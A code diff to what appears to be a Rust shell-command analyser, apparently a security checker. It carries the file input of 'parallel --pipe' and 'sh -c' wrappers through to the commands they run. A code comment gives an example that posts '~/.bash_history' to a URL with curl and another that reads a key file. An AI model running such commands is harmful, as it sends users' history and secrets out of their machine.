@@ -238,7 +238,34 @@ impl Norm<'_> {
                         let v: Vec<&str> = pos.iter().skip(1).map(|w| w.w.text.as_str()).collect();
                         self.set_var("@", known.then(|| v.join(" ")));
                     }
+                    // what the wrapper reads from a file is the script's input (`parallel
+                    // --pipe 'curl -d @- URL' < ~/.bash_history`, `sh -c 'cat' < key`)
+                    // (on this machine, and straight from the wrapper: not what `find -exec`
+                    // or `ssh` hand on)
+                    let reads_input = match c.wrappers.as_slice() {
+                        [w] if w.name == "parallel" => w
+                            .args
+                            .iter()
+                            .any(|a| matches!(a.as_str(), "--pipe" | "--pipepart")),
+                        [w] => crate::unwrap::is_shell(&w.name),
+                        _ => false,
+                    };
+                    let outer_stdin = match &p.stdin {
+                        Some(s @ crate::StdinSource::File { .. })
+                            if reads_input && c.remote.is_none() =>
+                        {
+                            Some(s.clone())
+                        }
+                        _ => None,
+                    };
                     let r = self.shell_string(words, p, outer, c, frame);
+                    if let (Some(s), Some(r)) = (outer_stdin, r) {
+                        for cmd in self.commands.iter_mut().take(r.last + 1).skip(r.first) {
+                            if cmd.stdin.is_none() {
+                                cmd.stdin = Some(s.clone());
+                            }
+                        }
+                    }
                     if peeled.positional.is_some() {
                         for (name, old) in [("@", saved), ("0", saved0)] {
                             match old {
